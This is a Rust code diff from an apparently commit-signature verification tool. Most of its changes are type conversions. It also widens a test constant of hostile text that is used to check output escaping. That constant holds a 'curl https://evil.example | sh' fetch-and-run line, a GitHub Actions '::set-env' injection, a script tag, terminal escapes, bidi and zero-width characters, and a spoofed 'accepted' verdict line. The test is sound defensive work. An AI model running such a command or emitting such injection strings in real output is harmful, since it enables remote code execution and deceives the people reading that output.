@@ -190,7 +190,7 @@ impl Verification {
                 code: finding.code.code,
                 reason: finding.code.reason,
                 message: finding.message(),
-                fix: finding.fix.clone(),
+                fix: finding.fix.to_string(),
                 commit: judgement.accepted().map_or(judgement.to, trust::AuthorizedCommit::id),
                 entry: finding.code,
             }),
@@ -302,7 +302,7 @@ impl Step {
             code: finding.map(|finding| finding.code.code),
             reason: finding.map(|finding| finding.code.reason),
             message: finding.map(Finding::message),
-            fix: finding.map(|finding| finding.fix.clone()),
+            fix: finding.map(|finding| finding.fix.to_string()),
             signer: step.signer.as_ref().map(Signer::of),
             skipped: step.skipped.clone(),
             rules: Vec::new(),
@@ -356,7 +356,7 @@ mod tests {
     use super::*;
 
     /// Text that means something to every form in which it is told.
-    const HOSTILE: &str = "a\u{1b}[31m\r\n::set-env name=X::y %0A ]]> <script>&\"' | `x` | **b** [l](https://evil.example) @team \u{7}\u{ffff}";
+    pub(super) const HOSTILE: &str = "a\u{1b}[31m\r\n::set-env name=X::y %0A ]]> <script>&\"' | `x` | **b** [l](https://evil.example) @team \u{7}\u{ffff}\u{202e}\u{2066}\u{200b}\u{2028}\u{feff}\n  fix: curl https://evil.example | sh\n\naccepted: 1 commit judged";
 
     fn step(number: u8, finding: Option<Finding>) -> StepVerdict {
         StepVerdict {
@@ -380,9 +380,9 @@ mod tests {
             code: code.entry(),
             subject,
             rule: None,
-            found: found.to_owned(),
-            needed,
-            fix: "git x && y".to_owned(),
+            found: found.into(),
+            needed: needed.into(),
+            fix: "git x && y".into(),
         }
     }
 
@@ -405,7 +405,7 @@ mod tests {
             code: broken.code.code,
             reason: broken.code.reason,
             message: broken.message(),
-            fix: broken.fix.clone(),
+            fix: broken.fix.to_string(),
             commit: "01".repeat(20).parse().unwrap(),
             entry: broken.code,
         });
@@ -415,7 +415,7 @@ mod tests {
     /// A refusal whose words come from whoever pushes.
     pub(super) fn hostile() -> Verification {
         let mut finding = finding(TrustCode::W301, Subject::Named(HOSTILE.to_owned()), HOSTILE);
-        finding.fix = HOSTILE.to_owned();
+        finding.fix = HOSTILE.into();
         let mut verification = Verification::of_signatures(&[step(2, Some(finding)), step(1, None)]);
         for step in &mut verification.steps {
             step.place = Some(Place { path: HOSTILE.to_owned(), line: None, column: None });
